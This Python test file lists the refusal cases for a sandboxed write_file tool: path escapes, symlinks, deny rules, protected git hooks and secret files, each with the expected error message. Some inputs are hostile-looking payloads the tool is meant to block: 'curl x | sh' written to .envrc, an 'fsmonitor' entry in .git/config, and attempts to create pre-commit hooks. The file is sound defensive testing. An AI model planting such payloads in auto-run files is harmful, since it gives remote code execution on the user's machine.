"""Refusal catalogue: write_file."""

from __future__ import annotations

import hashlib

from .helpers.catalogue import Case

from corral.tools import Denied, Limits

OLD = "old content\n"
OLD_SHA = hashlib.sha256(OLD.encode()).hexdigest()
OTHER_SHA = "0" * 64
OUTSIDE_HINT = ("Use a path relative to the root (\".\" is the root itself); '..' may not climb "
                "above it and symlinks that lead out are not followed.")
HOST_HINT = "Do not repeat this call; ask the user or do something else."
DENY_HINT = "Do not use this path; work with other files."
LONG_NAME = "b" * 256


def _no_writes(request):
    raise Denied("writes wait for review")


CASES = [
    Case("write_file", "already_exists", {"path": "notes.txt", "content": "new\n"},
         "ALREADY_EXISTS", "notes.txt already exists; nothing was written",
         f"Pass expectedSha256 \"{OLD_SHA}\" (its current sha256) or overwrite: true to replace "
         "it, or use edit_file to change part of it.",
         details={"path": "notes.txt", "kind": "exists", "currentSha256": OLD_SHA,
                  "bytes": len(OLD)},
         tree={"notes.txt": OLD}),
    Case("write_file", "stale", {"path": "notes.txt", "content": "new\n",
                                 "expectedSha256": OTHER_SHA}, "STALE",
         "notes.txt has changed: its sha256 is not the expectedSha256 given; nothing was written",
         "Read the file again (its current sha256 is in details), check your change still fits, "
         "then write with the new expectedSha256.",
         details={"path": "notes.txt", "kind": "sha256_mismatch", "expectedSha256": OTHER_SHA,
                  "currentSha256": OLD_SHA},
         tree={"notes.txt": OLD}),
    Case("write_file", "expected_sha_of_missing_file",
         {"path": "notse.txt", "content": "x\n", "expectedSha256": OLD_SHA}, "NOT_FOUND",
         "notse.txt does not exist, so it cannot have the expectedSha256 given",
         "Check the path (notes.txt exists); to create a new file, drop expectedSha256.",
         details={"path": "notse.txt", "kind": "missing", "didYouMean": ["notes.txt"]},
         tree={"notes.txt": OLD}),
    Case("write_file", "expected_sha_in_missing_directory",
         {"path": "nowhere/notes.txt", "content": "x\n", "expectedSha256": OLD_SHA}, "NOT_FOUND",
         "nowhere/notes.txt does not exist (there is no nowhere), so it cannot have the "
         "expectedSha256 given",
         "To create a new file, drop expectedSha256; otherwise check the path.",
         details={"path": "nowhere/notes.txt", "kind": "missing", "missing": "nowhere"}),
    Case("write_file", "too_large", {"path": "big.txt", "content": "x" * 17}, "TOO_LARGE",
         "the content is 17 bytes, over the limit of 16 bytes",
         "Write a smaller file, or split it into several files.",
         details={"path": "big.txt", "field": "content", "kind": "content_size", "bytes": 17,
                  "limit": 16},
         toolbox_options={"limits": Limits(max_write_bytes=16)}),
    Case("write_file", "existing_directory", {"path": "src", "content": "x"}, "INVALID_ARGUMENT",
         "src is a directory, not a file",
         "Pass the path of a file; list_directory shows what this directory holds.",
         details={"path": "src", "kind": "directory"},
         suggested_tool="list_directory", suggested_args={"path": "src"},
         tree={"src/a.py": "a = 1\n"}),
    Case("write_file", "root_itself", {"path": ".", "content": "x"}, "INVALID_ARGUMENT",
         ". names a directory, not a file", "Pass the path of a file to write, such as "
         "\"src/main.py\".", details={"path": ".", "kind": "directory"}),
    Case("write_file", "trailing_slash", {"path": "docs/", "content": "x"}, "INVALID_ARGUMENT",
         "docs names a directory, not a file", "Pass the path of a file to write, such as "
         "\"src/main.py\".", details={"path": "docs", "kind": "directory"}),
    Case("write_file", "symlink_inside", {"path": "link.txt", "content": "x", "overwrite": True},
         "UNSUPPORTED",
         "link.txt is a symlink; write_file does not write through or replace symlinks",
         "Write to real.txt, the file the link points to, by that path.",
         details={"path": "link.txt", "kind": "symlink", "target": "real.txt"},
         tree={"real.txt": OLD, "link.txt": ("link", "real.txt")}),
    Case("write_file", "symlink_outside", {"path": "link.txt", "content": "x", "overwrite": True},
         "UNSUPPORTED",
         "link.txt is a symlink; write_file does not write through or replace symlinks",
         "Pass the path of a regular file inside the root; this link leads outside it or to "
         "nothing, so there is no file here to write instead.",
         details={"path": "link.txt", "kind": "symlink"},
         tree={"link.txt": ("link", "../outside/secret.txt")}),
    Case("write_file", "dangling_symlink", {"path": "link.txt", "content": "x"}, "UNSUPPORTED",
         "link.txt is a symlink; write_file does not write through or replace symlinks",
         "Pass the path of a regular file inside the root; this link leads outside it or to "
         "nothing, so there is no file here to write instead.",
         details={"path": "link.txt", "kind": "symlink"},
         tree={"link.txt": ("link", "../outside/new.txt")}),
    Case("write_file", "fifo", {"path": "pipe", "content": "x", "overwrite": True}, "UNSUPPORTED",
         "pipe is a fifo, not a regular file", "Use regular files only; this one cannot be "
         "replaced.", details={"path": "pipe", "kind": "fifo"}, tree={"pipe": ("fifo",)}),
    Case("write_file", "file_as_parent", {"path": "notes.txt/x.txt", "content": "x"},
         "INVALID_ARGUMENT", "notes.txt is a file, so notes.txt/x.txt cannot be inside it",
         "Use a path whose directories exist; notes.txt is a file.",
         details={"path": "notes.txt/x.txt", "kind": "not_directory", "component": "notes.txt"},
         tree={"notes.txt": OLD}),
    Case("write_file", "dotdot", {"path": "../outside/new.txt", "content": "x"}, "OUTSIDE_ROOT",
         "../outside/new.txt is outside the root", OUTSIDE_HINT,
         details={"path": "../outside/new.txt", "kind": "dotdot"}),
    Case("write_file", "dotdot_into_new_directory", {"path": "../outside/deep/new.txt",
                                                     "content": "x"}, "OUTSIDE_ROOT",
         "../outside/deep/new.txt is outside the root", OUTSIDE_HINT,
         details={"path": "../outside/deep/new.txt", "kind": "dotdot"}),
    Case("write_file", "absolute_outside", {"path": "/tmp/corral-never-written.txt",
                                            "content": "x"}, "OUTSIDE_ROOT",
         "argument 'path' is an absolute path outside the root", OUTSIDE_HINT,
         details={"field": "path", "kind": "absolute"}),
    Case("write_file", "symlinked_parent_outside", {"path": "out/new.txt", "content": "x"},
         "OUTSIDE_ROOT", "out/new.txt is outside the root", OUTSIDE_HINT,
         details={"path": "out/new.txt", "kind": "symlink"},
         tree={"out": ("link", "../outside")}),
    Case("write_file", "symlinked_parent_outside_new_dirs", {"path": "out/a/b/new.txt",
                                                             "content": "x"},
         "OUTSIDE_ROOT", "out/a/b/new.txt is outside the root", OUTSIDE_HINT,
         details={"path": "out/a/b/new.txt", "kind": "symlink"},
         tree={"out": ("link", "../outside")}),
    Case("write_file", "nul_in_path", {"path": "a\x00.txt", "content": "x"}, "INVALID_ARGUMENT",
         "write_file: argument 'path' contains a NUL byte",
         "Remove the NUL character from 'path'.", details={"field": "path", "problem": "nul"}),
    Case("write_file", "name_256_bytes", {"path": LONG_NAME, "content": "x"}, "INVALID_ARGUMENT",
         f"{LONG_NAME[:120]}... is not a usable path: path component is too long",
         "Pass a shorter path of plain names separated by '/'.",
         details={"kind": "path_too_long"}),
    Case("write_file", "name_256_bytes_in_new_directory", {"path": f"new/{LONG_NAME}",
                                                           "content": "x"}, "INVALID_ARGUMENT",
         f"new/{LONG_NAME[:116]}... is not a usable path: path component is too long",
         "Pass a shorter path of plain names separated by '/'.",
         details={"kind": "path_too_long"}),
    Case("write_file", "denied_by_host_with_reason", {"path": "new/notes.txt", "content": "x"},
         "DENIED", "the host refused to write new/notes.txt: writes wait for review", HOST_HINT,
         details={"path": "new/notes.txt", "operation": "write",
                  "reason": "writes wait for review", "kind": "host"},
         toolbox_options={"authorize": _no_writes}),
    Case("write_file", "read_only", {"path": "notes.txt", "content": "x"}, "DENIED",
         "this root is read-only: write_file is not available",
         "Do not try to change files here; read them instead.",
         details={"kind": "read_only", "tool": "write_file"},
         toolbox_options={"read_only": True}),
    Case("write_file", "deny_rule", {"path": ".env", "content": "KEY=2\n", "overwrite": True},
         "DENIED", ".env is in a path the host does not allow", DENY_HINT,
         details={"path": ".env", "kind": "deny_rule"},
         tree={".env": "KEY=1\n"}, toolbox_options={"deny": [".env"]}),
    Case("write_file", "deny_rule_new_file_case", {"path": "config/.Env", "content": "K=1\n"},
         "DENIED", "config/.Env is in a path the host does not allow", DENY_HINT,
         details={"kind": "deny_rule"}, toolbox_options={"deny": [".env"]}),
    Case("write_file", "deny_rule_directory", {"path": ".git/hooks/pre-commit", "content": "x"},
         "DENIED", ".git/hooks/pre-commit is in a path the host does not allow", DENY_HINT,
         details={"kind": "deny_rule"}, toolbox_options={"deny": [".git/"]}),
    Case("write_file", "deny_rule_symlink_alias_into_new_directory",
         {"path": "meta/hooks/pre-commit", "content": "x"}, "DENIED",
         "meta/hooks/pre-commit is in a path the host does not allow", DENY_HINT,
         details={"path": "meta/hooks/pre-commit", "kind": "deny_rule"},
         tree={".git/config": "[core]\n", "meta": ("link", ".git")},
         toolbox_options={"deny": [".git/"]}),
    Case("write_file", "deny_rule_dotdot_into_new_directory",
         {"path": "src/new/../../.git/hooks/x", "content": "x"}, "DENIED",
         "src/new/../../.git/hooks/x is in a path the host does not allow", DENY_HINT,
         details={"kind": "deny_rule"},
         tree={".git/config": "[core]\n", "src/a.py": "a\n"},
         toolbox_options={"deny": [".git/"]}),
    # a path and no content: a call cut off before its content (output ran out)
    Case("write_file", "missing_content", {"path": "notes.txt"}, "INVALID_ARGUMENT",
         "write_file: argument 'content' is missing; this is how a call looks when the answer "
         "ran out of output before the call was complete, so nothing was done",
         "Write a large file in parts: write_file with the first part, then edit_file calls "
         "that each add the next part after the last lines written.",
         details={"field": "content", "path": "notes.txt", "kind": "cut_off"}),
    Case("write_file", "wrong_type_overwrite", {"path": "a.txt", "content": "x",
                                                "overwrite": "yes"}, "INVALID_ARGUMENT",
         "write_file: argument 'overwrite' must be true or false, not a string",
         "Pass 'overwrite' as true or false.", details={"field": "overwrite"}),
    Case("write_file", "wrong_type_content", {"path": "a.txt", "content": ["x"]},
         "INVALID_ARGUMENT", "write_file: argument 'content' must be a string, not an array",
         "Pass 'content' as a string.", details={"field": "content"}),
    Case("write_file", "short_sha", {"path": "a.txt", "content": "x", "expectedSha256": "abc"},
         "INVALID_ARGUMENT", "write_file: argument 'expectedSha256' is 3 characters, fewer than 16",
         "Pass at least 16 characters in 'expectedSha256'.",
         details={"field": "expectedSha256", "minLength": 16}),
    Case("write_file", "sha_of_15", {"path": "a.txt", "content": "x",
                                     "expectedSha256": "a" * 15}, "INVALID_ARGUMENT",
         "write_file: argument 'expectedSha256' is 15 characters, fewer than 16",
         "Pass at least 16 characters in 'expectedSha256'.",
         details={"field": "expectedSha256", "minLength": 16}),
    Case("write_file", "not_hex_sha", {"path": "a.txt", "content": "x",
                                       "expectedSha256": "g" * 64}, "INVALID_ARGUMENT",
         "write_file: argument 'expectedSha256' must be 16 to 64 hexadecimal digits of a sha256 "
         "(as read_file shows it)", "Pass 'expectedSha256' as 16 to 64 hexadecimal digits of a "
         "sha256 (as read_file shows it).", details={"field": "expectedSha256"}),
    Case("write_file", "unknown_argument", {"path": "a.txt", "content": "x", "mode": 0o755},
         "INVALID_ARGUMENT", "write_file: argument 'mode' is not an argument of this tool",
         "Remove 'mode'; the arguments are: content, dryRun, expectedSha256, keepFormat, "
         "overwrite, path.",
         details={"field": "mode"}),
]


# -- the safe defaults ---------------------------------------------------------------------

PROTECTED_HINT = ("Do not change this path; if the change is needed, the host (the user) must "
                  "allow it in its policy.")

CASES += [
    Case("write_file", "protected_git_hook", {"path": ".git/hooks/pre-commit",
                                              "content": "#!/bin/sh\n"}, "DENIED",
         ".git/hooks/pre-commit is protected: the host may run it on its own, so the tools may "
         "not create it; nothing was changed", PROTECTED_HINT,
         details={"path": ".git/hooks/pre-commit", "operation": "create", "field": "path",
                  "kind": "protected"}, exact=True,
         tree={".git/hooks/pre-commit.sample": "#\n", ".git/config": "[core]\n"}),
    Case("write_file", "protected_through_a_missing_directory",
         {"path": "nx/../.git/config", "content": "[core]\n\tfsmonitor = evil\n",
          "overwrite": True}, "DENIED",
         "nx/../.git/config is protected: the host may run it on its own, so the tools may not "
         "create it; nothing was changed", PROTECTED_HINT,
         details={"path": "nx/../.git/config", "operation": "create", "field": "path",
                  "kind": "protected"}, exact=True, tree={".git/config": "[core]\n"}),
    Case("write_file", "protected_envrc", {"path": ".envrc", "content": "curl x | sh\n",
                                           "overwrite": True}, "DENIED",
         ".envrc is protected: the host may run it on its own, so the tools may not create it; "
         "nothing was changed", PROTECTED_HINT,
         details={"path": ".envrc", "operation": "create", "field": "path",
                  "kind": "protected"}, exact=True, tree={".envrc": "export A=1\n"}),
    Case("write_file", "secret_not_replaced", {"path": ".env", "content": "A=2\n",
                                               "overwrite": True}, "DENIED",
         ".env looks like a secret file (credentials or keys), which the tools may not replace "
         "here", "Do not use this file; if its content is needed, ask the user (the host must "
         "allow secret files explicitly).",
         details={"path": ".env", "operation": "replace", "field": "path", "kind": "secret"},
         exact=True, tree={".env": "A=1\n"}),
]
